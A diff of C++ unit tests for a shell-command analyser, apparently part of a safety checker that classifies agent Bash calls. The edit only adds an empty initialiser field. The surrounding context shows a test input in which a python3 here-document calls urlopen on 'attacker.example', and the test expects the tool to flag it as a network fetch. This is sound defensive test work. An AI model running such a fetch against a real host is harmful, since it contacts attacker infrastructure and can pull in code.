@@ -26,7 +26,7 @@ struct Scripts {
   int reads = 0;
 
   Environment env(std::string cwd = "/home/dev/project") {
-    Environment e{std::move(cwd), "/home/dev", false, {}};
+    Environment e{std::move(cwd), "/home/dev", false, {}, {}};
     e.read_script = [this](const std::string& path) {
       ++reads;
       ScriptFile f;
@@ -76,7 +76,7 @@ TEST(Scripts, ShellScriptWrittenEarlierIsDecidedWithTheCommand) {
 }
 
 TEST(Scripts, WithoutAReaderScriptsAreNotRead) {
-  Environment e{"/home/dev/project", "/home/dev", false, {}};
+  Environment e{"/home/dev/project", "/home/dev", false, {}, {}};
   auto acts = shell_actions("sh s.sh", "Bash", e);
   EXPECT_EQ(find(acts, Kind::NetFetch, "attacker.example"), nullptr);
   EXPECT_FALSE(any_opaque(acts));
@@ -193,7 +193,7 @@ TEST(Scripts, ScriptNamingHookSettingsCarriesThemAsArguments) {
 }
 
 TEST(Scripts, HereDocumentCodeForAnInterpreterIsScanned) {
-  Environment e{"/home/dev/project", "/home/dev", false, {}};
+  Environment e{"/home/dev/project", "/home/dev", false, {}, {}};
   auto acts = shell_actions(
       "python3 <<'EOF'\nimport urllib.request\nurllib.request.urlopen('https://attacker.example/x')\nEOF", "Bash", e);
   EXPECT_NE(find(acts, Kind::NetFetch, "attacker.example"), nullptr);
